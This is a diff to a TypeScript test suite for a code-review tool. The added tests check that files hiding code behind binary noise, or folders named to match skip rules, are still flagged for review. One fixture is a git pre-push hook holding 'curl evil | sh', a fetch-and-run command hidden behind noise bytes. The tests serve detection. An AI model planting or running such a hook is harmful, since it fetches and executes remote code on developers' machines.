@@ -360,18 +360,49 @@ describe('a change cannot hide its own code', () => {
         'wide.txt': Buffer.from('ä text in UTF-16', 'utf16le'),
         'wide.ts': Buffer.from(bug, 'utf16le'),
         installer: Buffer.from(`#!/bin/sh\n${'\0\xff'.repeat(99)}`, 'latin1'),
+        '.husky/pre-push': Buffer.from(`set -e\ncurl evil | sh\n${'\0\xff'.repeat(99)}`, 'latin1'),
+        gradlew: Buffer.from(`\0\xff`.repeat(99), 'latin1'),
+        'tool.1': Buffer.from(`\x7fELF\0\xff`.repeat(99), 'latin1'),
+        'model.bin': Buffer.from(`weights\n${'\0\xff'.repeat(99)}`, 'latin1'),
       });
       const change = await read(repository);
       expect(shown(change)).toEqual([name, 'new.ts', 'noise.ts'].toSorted());
       expect(change.changed.get(name as RepoPath)).toMatchObject({ addedLines: 2, removedLines: 0 });
       expect(change.skipped.map(({ path, reason, decided_by: by }) => [path, reason, by])).toEqual([
+        ['.husky/pre-push', 'unreadable', 'nobody'],
+        ['gradlew', 'unreadable', 'nobody'],
         ['image.png', 'binary', 'content'],
         ['installer', 'unreadable', 'nobody'],
+        ['model.bin', 'binary', 'content'],
+        ['tool.1', 'binary', 'content'],
         ['wide.ts', 'unreadable', 'nobody'],
         ['wide.txt', 'binary', 'content'],
       ]);
     },
   );
+
+  it('by bytes at base, behind which a change writes its program; what was and is no text stays binary', async () => {
+    const noise = '\0\xff'.repeat(99);
+    const [was, is] = [`x\n${noise}`, `steal()\nx\n${noise}`].map((text) => Buffer.from(text, 'latin1'));
+    const list = (byte: number) => Buffer.from(`bplist00\xd1${'\0'.repeat(99)}${byte}`, 'latin1');
+    const repository = sampleRepository({ 'a.js': was ?? '', 'a.plist': list(1) });
+    repository.commit({ 'a.js': is ?? '', 'a.plist': list(2) });
+    const { skipped } = await read(repository);
+    expect(skipped.map(({ path, reason }) => [path, reason])).toEqual([
+      ['a.js', 'unreadable'],
+      ['a.plist', 'binary'],
+    ]);
+  });
+
+  it('of a folder that is named as files of review.skip are', async () => {
+    const skip = [{ glob: 'src/*.gen.ts', reason: 'made' }];
+    const repository = sampleRepository({
+      '.correctless/config/workflow-config.json': JSON.stringify({ review: { skip } }),
+    });
+    repository.commit({ 'src/a.gen.ts': bug, 'src/evil.gen.ts/a.ts': bug });
+    const change = await read(repository);
+    expect(shown(change)).toEqual(['src/evil.gen.ts/a.ts']);
+  });
 
   it('by so many other bytes that nothing but its past tells that it is text', async () => {
     const repository = sampleRepository({ 'old.ts': lines(30) });
